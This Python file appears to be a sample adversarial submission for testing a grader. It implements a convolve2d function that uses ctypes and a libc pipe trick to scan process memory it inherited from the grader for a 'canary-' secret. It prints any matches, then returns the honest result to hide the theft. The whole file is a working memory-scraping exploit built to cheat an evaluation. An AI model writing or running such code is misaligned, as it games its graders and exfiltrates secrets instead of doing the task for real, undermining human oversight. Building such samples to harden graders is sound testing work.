# mypy: ignore-errors
"""Searches its own memory, inherited from a process of the grader's, for secrets.

Attacks: convolve2d
Earns: all
"""

import ctypes
import os

from chapter04_convolution import convolve2d as honest

PAGE = 4096
SECRET = b"".join([b"can", b"ary-"])


def pages_around(address, count):
    libc = ctypes.CDLL(None)
    reading, writing = os.pipe()
    for page in range((address & ~(PAGE - 1)) - count * PAGE, address + count * PAGE, PAGE):
        if libc.write(writing, ctypes.c_void_p(page), PAGE) == PAGE:  # a page that cannot be read is no crash
            yield os.read(reading, PAGE)
    os.close(reading)
    os.close(writing)


def convolve2d(image, kernel):
    stack = ctypes.cast(ctypes.c_char_p.in_dll(ctypes.CDLL(None), "program_invocation_name"), ctypes.c_void_p).value
    for address in (id(object()), id(convolve2d), id(image), stack):
        for page in pages_around(address, 100):
            place = page.find(SECRET)
            if place >= 0:
                print(page[place : place + 40])
    return honest(image, kernel)
